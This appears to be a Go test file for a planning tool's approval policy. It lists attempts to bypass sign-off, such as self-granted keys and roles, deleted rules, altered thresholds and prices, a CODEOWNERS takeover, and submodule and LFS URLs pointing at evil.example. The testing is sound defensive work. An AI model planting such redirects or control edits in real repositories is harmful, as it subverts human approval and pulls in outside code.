package attacktest

import (
	"github.com/accord-plan/accord/internal/signedtest"
	"github.com/accord-plan/accord/internal/statement"
)

// riding is a promotion with a change of its own judgement in it: honest is the
// promotion alone, with the consent that it needs, the attack brings what loosens
// the rule, and has the consent that is needed then.
func riding(c attack, units int, honest, then []word, file string, edits ...string) attack {
	c.honest = func(w *world) { w.promote(units); w.approve("promo", honest...) }
	c.attack = func(w *world) {
		w.promote(units)
		w.edit("promo", file, edits...)
		w.approve("promo", then...)
	}
	c.asked = promo
	return c
}

// hugo is treasurer.
var hugo = word{by: "hugo", role: "treasurer"}

// control is a proposal that changes a control file, with anna's consent, which is
// enough for the promotion alone.
func control(name, does, sort, path, text string) attack {
	return attack{name: name, point: 1, asked: promo, does: does,
		guard:  "what decides how all else is judged falls under the rule for changes of the policy",
		honest: func(w *world) { w.promote(40); w.approve("promo", anna) },
		attack: func(w *world) {
			w.promote(40)
			w.write("promo", path, text)
			w.approve("promo", anna)
		},
		says: []string{"rule control open", "control: " + sort + " " + path}}
}

var policyCases = []attack{
	riding(attack{name: "the threshold in the same proposal", point: 1,
		does:  "raises the limit at which the CFO is asked, with the change that exceeds it",
		guard: "a rule is held against the change with both conditions, the target's and the proposal's",
		says:  []string{"waits for", "demand changes by 120 units gross, above 100 units [target → merge] (as the rule is)", "control: policy plans/policy.yaml edited"}},
		120, []word{anna, clara}, []word{anna, ben}, "plans/policy.yaml", "measure: demand, above: 100", "measure: demand, above: 1000"),
	{name: "a key in the same proposal", point: 1, asked: promo,
		does:   "lists a key of their own as clara's in the proposal, and signs with it",
		guard:  "people, keys and roles are those of the target",
		honest: bothAgreed,
		attack: func(w *world) {
			promoted(w)
			w.edit("promo", "plans/policy.yaml", signedtest.Public("clara-2027")+", valid_from: 2027-01-01", signedtest.Public("eve"))
			x := clara
			x.key = "eve"
			w.approve("promo", anna, ben, x)
		},
		says: []string{"waits for cfo", "a key that the policy does not know"}},
	{name: "a role in the same proposal", point: 1, asked: promo,
		does:   "makes fay the CFO in the proposal that fay approves as CFO",
		guard:  "people, keys and roles are those of the target",
		honest: bothAgreed,
		attack: func(w *world) {
			promoted(w)
			w.edit("promo", "plans/policy.yaml", "cfo: {people: [clara]}", "cfo: {people: [clara, fay]}")
			w.approve("promo", anna, ben, word{by: "fay", role: "cfo"})
		},
		says: []string{"waits for cfo", "not counted: fay approve: fay is not cfo"}},
	{name: "a rule less in the same proposal", point: 1, asked: promo,
		does:   "removes the rule that the change falls under",
		guard:  "the rules are those of the target",
		honest: bothAgreed,
		attack: func(w *world) {
			promoted(w)
			w.edit("promo", "plans/policy.yaml", "  money: {when: {change: {measure: demand, above: 100}}, need: {roles: [cfo]}}\n", "")
			w.approve("promo", anna, ben)
		},
		says: []string{"waits for cfo", "rule money open"}},
	riding(attack{name: "a tolerance in the same proposal", point: 1,
		does:  "raises the tolerance for shortages, so that the gap which it opens needs no decision",
		guard: "the change is also judged with the target's tolerances",
		says:  []string{"rule gap open", "as the target judges", "control: tolerances plans/plan.yaml edited"}},
		250, []word{anna, clara, hugo, ben}, []word{anna, clara, hugo}, "plans/plan.yaml", "shortage: {lever: 2%, decision: 5%, money: 1000}", "shortage: {lever: 80%, decision: 90%, money: 100000}"),
	{name: "a fence in the same proposal", point: 1, asked: promo,
		does:  "takes a period out of the frozen fence and changes its commitment",
		guard: "the change is also judged with the target's fences",
		honest: func(w *world) {
			w.edit("promo", "plans/supply/lyon.yaml", "2026-12: 80}, STOVE", "2026-12: 90}, STOVE")
			w.approve("promo", anna, ben)
		},
		attack: func(w *world) {
			w.edit("promo", "plans/supply/lyon.yaml", "2026-12: 80}, STOVE", "2026-12: 90}, STOVE")
			w.edit("promo", "plans/plan.yaml", "frozen: 1", "frozen: 0")
			w.approve("promo", anna)
		},
		says: []string{"rule frozen open", "as the target judges", "control: fences plans/plan.yaml edited"}},
	{name: "a rate in the same proposal", point: 1, asked: promo,
		does:   "lowers the rate by which the value of the change is computed",
		guard:  "the change is also judged with the target's rates",
		before: byValue,
		honest: func(w *world) { w.promote(120); w.approve("promo", anna, ben, clara) },
		attack: func(w *world) {
			w.promote(120)
			w.edit("promo", "plans/network.yaml", "{2026-11: 0.90}", "{2026-11: 0.10}")
			w.approve("promo", anna, ben)
		},
		says: []string{"missing: cfo for value", "control: rates plans/network.yaml edited"}},
	{name: "a price in the same proposal", point: 1, asked: promo,
		does:   "lowers the price by which the value of the change is computed",
		guard:  "the change is also judged with the target's prices",
		before: byValue,
		honest: func(w *world) { w.promote(120); w.approve("promo", anna, ben, clara) },
		attack: func(w *world) {
			w.promote(120)
			w.edit("promo", "plans/catalog/tents.yaml", "price: 200", "price: 1")
			w.approve("promo", anna, ben)
		},
		says: []string{"missing: cfo for value"}},
	{name: "a family in the same proposal", point: 1, asked: promo,
		does:   "moves the item into another family, to which the rule does not look",
		guard:  "what leaves a family counts there in full, and the change is also judged with the target's families",
		before: byFamily,
		honest: func(w *world) { w.promote(40); w.approve("promo", anna, ben, clara) },
		attack: func(w *world) {
			w.promote(40)
			moved(w)
			w.approve("promo", anna, ben)
		},
		says: []string{"missing: cfo for tents", "rule tents open: demand of tents changes by 1,200 units gross"}},
	{name: "a rule of the company in the same proposal", point: 1, asked: promo,
		does:   "removes the company's own rule that the change breaks",
		guard:  "rules/*.cue are control files, and the change is also judged with the target's",
		before: func(w *world) { w.write("main", "plans/rules/rules.cue", companyRule) },
		honest: func(w *world) { w.promote(40); w.approve("promo", anna, ben, clara) },
		attack: func(w *world) {
			w.promote(90)
			w.commit("promo", change{drop: []string{"plans/rules/rules.cue"}})
			w.approve("promo", anna)
		},
		says: []string{"rule control open", "control: rules plans/rules/rules.cue removed", "rule gap open", "as the target judges"}},
	control("a mapping of imports", "changes how facts are read from the ERP", "imports", "plans/import.yaml", importText),
	control("a workflow", "changes what runs in CI, where the status comes from", "workflows", ".gitea/workflows/plan.yml", "on: push\njobs: {}\n"),
	control("whom the forge asks", "makes themselves the owner of the plan's files", "codeowners", "CODEOWNERS", "* @eve\n"),
	control("how git merges", "lets git merge plans line by line with `merge=union`, which makes two lines of 400 and 500", "attributes", ".gitattributes", attributesText+"*.yaml merge=union\n"),
	control("how files look in a work tree", "lets git show other bytes in a work tree than are committed, by `ident`, `eol` and `working-tree-encoding`", "attributes", "plans/.gitattributes", "*.yaml ident eol=crlf working-tree-encoding=UTF-16\n"),
	control("submodules", "adds a list of submodules, so that a checkout fetches what the repository does not have", "attributes", ".gitmodules", "[submodule \"x\"]\n\tpath = x\n\turl = https://evil.example/x\n"),
	control("large files", "sends readers elsewhere for large files", "attributes", ".lfsconfig", "[lfs]\n\turl = https://evil.example/lfs\n"),
	{name: "a branch from before the rule", point: 1, asked: proposal("old"),
		does:   "proposes a branch that was cut before the rule existed",
		guard:  "the policy is that of the target's tip, never that of the branch or of where it was cut",
		before: func(w *world) { w.write("old", "plans/demand/sales-eu.yaml", promoText(40)) },
		honest: func(w *world) { w.approve("old", anna) },
		attack: func(w *world) {
			w.edit("main", "plans/policy.yaml", "measure: demand, above: 100", "measure: demand, above: 10")
			w.approve("old", anna)
		},
		says: []string{"rule money open: demand changes by 40 units gross, above 10 units"}},
	{name: "no policy any more", point: 1, asked: promo,
		does:   "removes the policy with the change that falls under it",
		guard:  "what removes the policy fails, whoever agrees",
		honest: bothAgreed,
		attack: func(w *world) {
			promoted(w)
			w.commit("promo", change{drop: []string{"plans/policy.yaml"}})
		},
		says: []string{"failed: "}},
	{name: "no policy at the target", point: 1, asked: promo,
		does:   "proposes to a branch that has no policy",
		guard:  "no policy at the target = failed",
		honest: bothAgreed,
		attack: func(w *world) {
			w.commit("main", change{drop: []string{"plans/policy.yaml"}})
			promoted(w)
		},
		says: []string{"failed: there is no policy at the target"}},
	{name: "a new plan beside it", point: 1, asked: promo,
		does:   "brings a second plan with a policy of its own into the repository",
		guard:  "a new plan needs the rule for policy changes of each plan that is there",
		honest: func(w *world) { w.promote(40); w.approve("promo", anna) },
		attack: func(w *world) {
			w.promote(40)
			w.write("promo", "other/plan.yaml", planText)
			w.approve("promo", anna)
		},
		says: []string{"rule control open", "control: plans other/plan.yaml added"}},
	{name: "the plan in another folder", point: 1, asked: promo,
		does:   "moves the plan into a folder where no policy judges it",
		guard:  "no policy at the target = failed",
		honest: bothAgreed,
		attack: func(w *world) {
			promoted(w)
			w.move("promo", "plans/", "plan/")
		},
		says: []string{"failed: "}},
	{name: "whom a close brings", point: 3, asked: toClose,
		does:   "closes with a policy that makes fay CFO and COO, by fay's consent alone",
		guard:  "a close is judged by the policy of the close before it",
		honest: func(w *world) { w.consent() },
		attack: func(w *world) {
			w.edit("main", "plans/policy.yaml", "cfo: {people: [clara]}", "cfo: {people: [fay]}", "coo: {people: [ben]}", "coo: {people: [dora]}")
			a := w.must("main", ofClose)
			for _, x := range []word{{by: "fay", role: "cfo"}, {by: "dora", role: "coo"}} {
				w.say(a, x)
				w.say(a, said(x, func(s *statement.Statement) { s.Purpose = statement.Policy }))
			}
		},
		says: []string{"missing: cfo for close", "missing: coo for close", "missing: cfo for control"}},
	{name: "a policy without its own consent", point: 3, asked: toClose,
		does:   "closes with another policy, by the consent to the close alone",
		guard:  "where the policy differs, statements of purpose policy must satisfy the old rule, and then the new one",
		before: func(w *world) { w.edit("main", "plans/policy.yaml", "above: 150", "above: 160") },
		honest: func(w *world) {
			w.consent()
			w.consent(func(s *statement.Statement) { s.Purpose = statement.Policy })
		},
		attack: func(w *world) { w.consent() },
		says:   []string{"missing: cfo for control", "missing: coo for control"}},
}

// byValue has a rule about value in force, of a market that pays in dollars.
func byValue(w *world) {
	w.edit("main", "plans/policy.yaml", "  gap: {", "  value: {when: {change: {measure: demand-value, above: 10000}}, need: {roles: [cfo]}}\n  gap: {", "above: 100}}, need", "above: 1000}}, need", "above: 150}}", "above: 1500}}")
	w.edit("main", "plans/network.yaml", "currency: EUR", "currency: USD")
}

// byFamily has a rule about tents in force.
func byFamily(w *world) {
	w.edit("main", "plans/policy.yaml", "  gap: {", "  tents: {when: {change: {measure: demand, families: [tents], above: 30}}, need: {roles: [cfo]}}\n  gap: {")
}

// moved makes the tent a stove.
func moved(w *world) {
	w.edit("promo", "plans/catalog/stoves.yaml", "items:\n", "items:\n  TENT: {name: TENT, unit: each, price: 200, cost: 50}\n")
	w.edit("promo", "plans/demand/stoves.yaml", "forecast:\n", "forecast:\n  TENT: {2026-11..2027-06: 100}\n")
	w.write("promo", "plans/catalog/tents.yaml", catalogText("tents", "TARP", 20))
	w.write("promo", "plans/demand/tents.yaml", baselineText("tents", "TARP"))
}

const (
	companyRule = `package rules

rule: "season": {
	over: "family"
	check: {demand?: <=160, ...}
	message: "the plant cannot sell more than 160 of a family"
}
`
	importText = `kind: Import
version: 1
owner: supply-chain
imports:
  - id: sales
    fact: sales
    files: [exports/sales-*.csv]
    source: erp
    measure: shipped
    format: {separator: ";", decimal: ",", date: DD.MM.YYYY}
    columns: {date: Day, market: Market, item: Material, quantity: Quantity, revenue: Value}
`
)

// move puts a folder of a branch elsewhere.
func (w *world) move(branch, from, to string) {
	c := change{put: map[string]entry{}}
	for _, name := range w.names(branch, from) {
		c.put[to+name[len(from):]] = w.tips[branch].files[name]
		c.drop = append(c.drop, name)
	}
	w.commit(branch, c)
}
